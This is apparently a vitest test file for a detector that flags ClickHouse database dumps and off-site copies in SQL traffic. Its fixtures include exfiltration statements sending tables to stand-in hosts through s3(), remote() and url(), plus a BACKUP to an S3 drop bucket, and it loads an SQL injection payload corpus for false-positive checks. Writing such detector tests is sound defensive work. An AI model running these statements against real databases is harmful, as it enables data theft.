import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { SqlQueryEvent } from '#sidecar/events.ts';
import { databaseDump } from '#sidecar/threats/database-dump.ts';
import { corpusDir } from '#test/helpers/corpus.ts';
import { runThreat } from './threat-factories.ts';

const ch = (text: string): SqlQueryEvent => ({
  kind: 'sql-query',
  ts: 1_000,
  direction: 'to-server',
  dialect: 'clickhouse',
  text,
});
/** The hits of one connection that sent these statements. */
const run = (texts: string[], config: Record<string, unknown> = {}) =>
  runThreat(databaseDump, texts.map(ch), { config });
const told = (texts: string[]) => run(texts).map((h) => [h.severity, h.confidence, h.count ?? 1, h.evidence]);
/** The shared corpus's SQL injection lists (WAF Payload Collection; ../shared/corpus/README.md), when present. */
const sqli = corpusDir('payloads/sqli');
const tables = ['shop.users', 'shop.orders', 'shop.cards', 'shop.audit'];

describe('database-dump on ClickHouse', () => {
  it('tells tables dumped in a file format from the first, each once, sure from the third', () => {
    const dump = tables.map((t) => `SELECT * FROM ${t} FORMAT Native; `);
    expect(told([...dump, dump[0] ?? ''])).toEqual([
      ['medium', 0.6, 1, 'tables read whole with SELECT * … FORMAT Native, the first shop.users'],
      ['medium', 0.6, 1, 'tables read whole with SELECT * … FORMAT Native, the first shop.users'],
      ['medium', 0.9, 1, 'tables read whole with SELECT * … FORMAT Native, the first shop.users'],
      ['medium', 0.9, 1, 'tables read whole with SELECT * … FORMAT Native, the first shop.users'],
    ]);
    expect(told(["SELECT * FROM `shop`.`users` INTO OUTFILE '/tmp/u.tsv' FORMAT TabSeparated"])).toEqual([
      ['medium', 0.6, 1, 'tables read whole with SELECT * … INTO OUTFILE, the first `shop`.`users`'],
    ]);
  });

  it('keeps bare SELECT * reads (what clickhouse-client --format Native sends) until the third table, then tells all', () => {
    expect(run(['SELECT * FROM users', 'SELECT * FROM users', 'SELECT * FROM orders'])).toEqual([]);
    expect(
      told([
        'SELECT * FROM users',
        'SELECT * FROM users FINAL',
        'SELECT * FROM orders',
        'SELECT * FROM cards',
      ]),
    ).toEqual([['medium', 0.9, 3, 'tables read whole with SELECT *, the first users']]);
    // A bare read counted, then a file-format read: both told at once.
    expect(told(['SELECT * FROM users', 'SELECT * FROM orders FORMAT CSV'])).toEqual([
      ['medium', 0.6, 2, 'tables read whole with SELECT * … FORMAT CSV, the first users'],
    ]);
    expect(run(['SELECT * FROM users', 'SELECT * FROM orders'], { tables: 2 })[0]?.count).toBe(2);
  });

  it('tells a copy to another system (INSERT INTO FUNCTION) surely, off-site severity, no credentials', () => {
    expect(
      told([
        "INSERT INTO FUNCTION s3('https://AKIA1:secret@drop.example.net/x.native?X-Amz-Signature=ab', 'KEY', 'SECRET', 'Native') SELECT * FROM users",
        "INSERT INTO TABLE FUNCTION remote('203.0.113.7:9000', 'default', 'stolen', 'u', 'pw') (id, name) SELECT * FROM orders",
      ]),
    ).toEqual([
      [
        'high',
        0.9,
        1,
        'tables copied out with INSERT INTO FUNCTION s3 (https://drop.example.net/x.native), the first users',
      ],
      [
        'high',
        0.9,
        1,
        'tables copied out with INSERT INTO FUNCTION remote (203.0.113.7:9000), the first users',
      ],
    ]);
    // Read whole, then copied off site: the copy is told too.
    const copied = run([
      'SELECT * FROM users FORMAT CSV',
      "INSERT INTO FUNCTION url('http://x.example/', 'CSV') SELECT * FROM users",
    ]);
    expect(copied.map((h) => [h.severity, h.confidence, h.count])).toEqual([
      ['medium', 0.6, 1],
      ['high', 0.9, 1],
    ]);
    expect(told(["INSERT INTO FUNCTION file('users.native', 'Native') SELECT * FROM users"])).toEqual([
      ['medium', 0.6, 1, 'tables read whole with INSERT INTO FUNCTION file (users.native), the first users'],
    ]);
    expect(
      run(["INSERT INTO FUNCTION url('http://x/', 'CSV') SELECT * FROM users"], {
        offSiteSeverity: 'critical',
      })[0]?.severity,
    ).toBe('critical');
  });

  it('tells BACKUP off site (S3, Azure) surely and high, to the server’s own disks less surely', () => {
    expect(
      told([
        "BACKUP DATABASE shop TO S3('https://drop.example.net/shop/', 'AKIAEXAMPLE', 'wJalrXUtnFEMI')",
        "BACKUP TABLE shop.users TO Disk('backups', 'users.zip')",
        "BACKUP ALL TO File('all.zip') ASYNC",
      ]),
    ).toEqual([
      [
        'high',
        0.9,
        1,
        'a backup of DATABASE shop to S3 https://drop.example.net/shop/ (a place the statement names)',
      ],
      [
        'medium',
        0.6,
        1,
        "a backup of TABLE shop.users to Disk backups (storage the server's configuration allows)",
      ],
      ['medium', 0.6, 1, "a backup of ALL to File all.zip (storage the server's configuration allows)"],
    ]);
    expect(
      JSON.stringify(
        run(["BACKUP DATABASE shop TO S3('https://b.example/', 'AKIAEXAMPLE', 'wJalrXUtnFEMI')"]),
      ),
    ).not.toMatch(/AKIAEXAMPLE|wJalr/);
  });

  it('leaves ordinary statements alone: ClickBench, clickhouse-client start-up, monitoring, narrowed reads', () => {
    const fixture = readFileSync(
      new URL('../../fixtures/clickhouse/ordinary-queries.sql', import.meta.url),
      'utf8',
    );
    const statements = fixture.split('\n').filter((line) => line !== '' && !line.startsWith('--'));
    expect(statements.length).toBeGreaterThan(75);
    // All on one connection, as a busy dashboard's pool would send them, and each on its own.
    expect(run(statements)).toEqual([]);
    for (const text of statements) expect(run([text]), text).toEqual([]);
  });

  it.skipIf(!existsSync(sqli))(
    'leaves the corpus SQL injection payloads (235 lines) alone, as statements',
    () => {
      const lines = ['true-positives.txt', 'false-positives.txt'].flatMap((f) =>
        readFileSync(join(sqli, f), 'utf8')
          .split('\n')
          .filter((line) => line !== ''),
      );
      expect(lines.length).toBeGreaterThan(200);
      // One of them (`select * from pg_shadow;`) is a table read whole: counted, and alone never told.
      expect(run(lines)).toEqual([]);
      for (const text of lines) expect(run([text]), text).toEqual([]);
    },
  );

  it('leaves other databases to their own readers, and hostile text unreported in linear time', () => {
    const other = { ...ch('SELECT * FROM users FORMAT Native'), dialect: 'postgresql' as const };
    expect(runThreat(databaseDump, [other], {})).toEqual([]);
    expect(run(['COPY users TO stdout'])).toEqual([]);
    const started = performance.now();
    const hostile = [
      `SELECT * FROM t${' '.repeat(200_000)}x`,
      `SELECT * FROM t ORDER BY a${' , a'.repeat(50_000)} x`,
      `INSERT INTO FUNCTION s3(${"'('".repeat(50_000)}`,
      `BACKUP TABLE t${' TO x'.repeat(50_000)}`,
    ];
    expect(run(hostile)).toEqual([]);
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});
